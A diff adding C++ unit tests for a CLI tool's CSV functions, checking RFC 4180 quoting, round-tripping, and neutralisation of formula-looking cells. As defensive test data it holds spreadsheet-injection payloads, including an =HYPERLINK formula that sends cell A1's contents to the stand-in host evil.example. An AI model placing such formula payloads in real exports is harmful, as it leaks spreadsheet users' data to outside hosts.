@@ -1,0 +1,65 @@
+// cli/csv.cpp: RFC 4180 fields, formula-looking cells neutralised for spreadsheets, and read back as written.
+#include "cli/csv.hpp"
+
+#include <catch2/catch.hpp>
+
+namespace antq::cli {
+namespace {
+
+TEST_CASE("A cell a spreadsheet would run as a formula gets a quote before it, and is quoted", "[csv]") {
+  CHECK(csv_field("=HYPERLINK(\"http://evil.example\",\"x\")") ==
+        "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"");
+  CHECK(csv_field("+1") == "\"'+1\"");
+  CHECK(csv_field("-2") == "\"'-2\"");
+  CHECK(csv_field("@SUM(A1:A9)") == "\"'@SUM(A1:A9)\"");
+  CHECK(csv_field("\t=1+1") == "\"'\t=1+1\"");
+  CHECK(csv_field("\r=1+1") == "\"'\r=1+1\"");
+  CHECK(csv_field("=1,2") == "\"'=1,2\"");
+  // Quotes then a formula character: one quote more, so that reading removes exactly one.
+  CHECK(csv_field("'=x") == "\"''=x\"");
+  CHECK(csv_field("''-1") == "\"'''-1\"");
+}
+
+TEST_CASE("Other cells, and the counts antq writes, are written as they are", "[csv]") {
+  CHECK(csv_field("Tổ dân cư tự quản về ANTT") == "Tổ dân cư tự quản về ANTT");
+  CHECK(csv_field("0") == "0");
+  CHECK(csv_field("12345") == "12345");
+  CHECK(csv_field("2024-11-14") == "2024-11-14");
+  CHECK(csv_field("a=b") == "a=b");            // only the first character counts
+  CHECK(csv_field("'quoted'") == "'quoted'");  // a quote not followed by a formula character
+  CHECK(csv_field("") == "");
+  CHECK(csv_field("'") == "'");
+  CHECK(csv_field("Camera an ninh, xóm Đông") == "\"Camera an ninh, xóm Đông\"");
+  CHECK(csv_field("say \"hi\"") == "\"say \"\"hi\"\"\"");
+  CHECK(csv_record({"section", "key", "value"}) == "section,key,value\r\n");
+}
+
+TEST_CASE("parse_csv gives back every field csv_record was given, neutralised or not", "[csv]") {
+  const std::vector<std::vector<std::string>> records = {
+      {"section", "key", "value"},
+      {"points", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "3"},
+      {"points", "+1", "1"},
+      {"points", "-2", "2"},
+      {"points", "@SUM(A1:A9)", "4"},
+      {"apart", "\tTAB", "\r=CR"},
+      {"points", "'=already quoted", "''+1"},
+      {"points", "'plain quote", "'"},
+      {"points", "Camera an ninh, xóm Đông", "line\r\nbreak \"quoted\""},
+      {"report", "unit", ""},
+  };
+  std::string text;
+  for (const auto& r : records) text += csv_record(r);
+  auto parsed = parse_csv(text, "t.csv");
+  REQUIRE(parsed);
+  CHECK(*parsed == records);
+}
+
+TEST_CASE("A hand-written cell with the quote a spreadsheet keeps reads as its text", "[csv]") {
+  auto parsed = parse_csv("section,key,value\r\npoints,'=X,'-3\r\n", "t.csv");
+  REQUIRE(parsed);
+  REQUIRE(parsed->size() == 2);
+  CHECK((*parsed)[1] == std::vector<std::string>{"points", "=X", "-3"});
+}
+
+}  // namespace
+}  // namespace antq::cli
